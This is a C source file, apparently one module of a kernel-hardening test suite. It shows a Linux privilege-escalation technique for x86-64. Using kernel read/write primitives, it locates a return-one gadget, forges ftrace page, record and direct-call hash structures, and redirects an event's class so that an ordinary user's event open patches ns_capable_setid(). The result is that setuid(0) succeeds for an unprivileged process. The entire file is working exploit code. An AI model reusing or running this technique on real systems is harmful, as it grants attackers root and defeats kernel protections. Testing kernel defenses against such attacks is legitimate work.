// SPDX-License-Identifier: GPL-2.0-only
/*
 * Only root traces functions, so what ftrace has patched is believed. But which event is
 * that of functions is known by an address, and what an event does when it is opened by
 * its class: the class of functions is given to a tracepoint that anybody may count. Which
 * functions there are, and what is called in them, are records and a table in ordinary
 * memory. So the first lines of who decides about setuid() call an end of a function.
 */
#include <errno.h>
#include <stddef.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "patching.h"
#include "static_calls.h"

#ifdef __x86_64__
#define EVENT		"event_task_rename"
#define CLASS		"event_class_ftrace_function"
#define PAGES		"ftrace_pages_start"
#define DIRECT_TABLE	"direct_functions"
#define EVENT_CLASS	16		/* in struct trace_event_call */
#define EVENT_TYPE	48
#define FL_DIRECT	(1UL << 24)

struct forged {
	struct { uint64_t next, records; int index, order; } pages;
	struct { uint64_t ip, flags; } record;
	struct { uint64_t bits, buckets, count, flags, rcu[2]; } hash;
	uint64_t bucket;
	struct { uint64_t next, pprev, ip, direct; } entry;
};

/* mov $1,%eax; pop %rbp; ret: to the caller's caller, who restores %rbp at its own end */
static const unsigned char end[] = { 0xb8, 0x01, 0x00, 0x00, 0x00, 0x5d, 0xc3 };

static uint64_t find_end(void)
{
	uint64_t at = ksymbol("_stext"), stop = ksymbol("_etext");
	unsigned char page[PAGE_SIZE], *found;

	for (; at < stop; at += PAGE_SIZE - sizeof(end)) {
		if (kread(at, page, sizeof(page)))
			return 0;
		found = memmem(page, sizeof(page), end, sizeof(end));
		if (found)
			return at + (found - page);
	}
	return 0;
}

static void forge(uint64_t at, uint64_t code, uint64_t target)
{
	struct forged forged = {
		.pages = { 0, at + offsetof(struct forged, record), 1, 0 },
		.record = { code, FL_DIRECT },
		.hash = { 0, at + offsetof(struct forged, bucket), 1, 0, { 0 } },
		.bucket = at + offsetof(struct forged, entry),
		.entry = { 0, at + offsetof(struct forged, bucket), code, target },
	};

	kwrite(at, &forged, sizeof(forged));
}

enum outcome ftrace_anybody(void)
{
	uint64_t event = ksymbol(EVENT), class = ksymbol(CLASS), pages = ksymbol(PAGES);
	uint64_t table = ksymbol(DIRECT_TABLE), code = find_code(), target = find_end();
	uint64_t old_class, old_pages, old_table;
	unsigned char byte = 0, after = 0;
	struct kernel_page page;
	int fd, error;
	bool root = false;

	if (!event || !class || !pages || !table)
		return skipped("kernel built without CONFIG_FUNCTION_TRACER");
	if (!code || !target || !kernel_page(&page))
		return broken("no place that can be patched, or no page");
	forge(page.addr, code, target);
	old_class = kread64(event + EVENT_CLASS);
	old_pages = kread64(pages);
	old_table = kread64(table);
	kwrite64(event + EVENT_CLASS, class);
	kwrite64(pages, page.addr);
	kwrite64(table, page.addr + offsetof(struct forged, hash));
	fd = count_events((int)kread64(event + EVENT_TYPE));
	error = errno;
	kread(code, &byte, sizeof(byte));
	if (byte == CALL)
		root = is_root_for_the_asking();
	close(fd);
	kread(code, &after, sizeof(after));
	kwrite64(event + EVENT_CLASS, old_class);
	kwrite64(pages, old_pages);
	kwrite64(table, old_table);
	if (fd < 0)
		return lost("no event: %d", error);
	if (byte != CALL)
		return lost("the text stayed as it was");
	if (after == CALL)
		return broken("the text was not put back");
	if (!root)
		return lost("the text was patched, and setuid(0) refused");
	return won("ftrace patched ns_capable_setid() for a user's event: setuid(0) by uid=%d is let through", getuid());
}
#else
enum outcome ftrace_anybody(void)
{
	return skipped("x86-64 only");
}
#endif
